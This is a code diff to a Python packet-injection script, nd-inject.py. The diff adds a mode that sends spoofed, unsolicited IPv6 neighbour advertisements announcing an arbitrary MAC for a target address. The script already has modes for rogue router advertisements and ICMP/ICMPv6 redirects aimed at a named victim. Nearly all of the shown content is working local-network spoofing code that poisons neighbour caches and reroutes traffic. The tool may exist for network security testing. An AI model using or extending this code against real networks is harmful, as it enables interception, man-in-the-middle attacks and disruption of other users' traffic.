@@ -9,6 +9,8 @@ internet's namespace.
   redirect6 DEV VICTIM TARGET DEST
                           an ICMPv6 redirect from DEV's link-local address to VICTIM: DEST is
                           better reached through TARGET
+  na DEV TARGET MAC       an unsolicited neighbour advertisement (override, not solicited) from
+                          DEV's link-local address to ff02::1: TARGET is at MAC
   redirect4 SRC VICTIM GW DEST PORT
                           an ICMP host redirect from SRC to VICTIM quoting a UDP datagram
                           VICTIM:40002 -> DEST:PORT: DEST is better reached through GW"""
@@ -51,6 +53,11 @@ if mode == "ra":
     pio = struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0,
                       socket.inet_pton(socket.AF_INET6, prefix))
     send6(dev, ra + pio, "ff02::1")
+elif mode == "na":
+    dev, target, mac = sys.argv[2:5]
+    na = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, socket.inet_pton(socket.AF_INET6, target))
+    tlla = struct.pack("!BB6s", 2, 1, bytes.fromhex(mac.replace(":", "")))
+    send6(dev, na + tlla, "ff02::1")
 elif mode == "redirect6":
     dev, victim, target, dest = sys.argv[2:6]
     rd = struct.pack("!BBHI16s16s", 137, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target),
@@ -68,4 +75,4 @@ elif mode == "redirect4":
     s.bind((src, 0))
     s.sendto(icmp, (victim, 0))
 else:
-    sys.exit("usage: nd-inject.py ra|redirect6|redirect4 ...")
+    sys.exit("usage: nd-inject.py ra|na|redirect6|redirect4 ...")
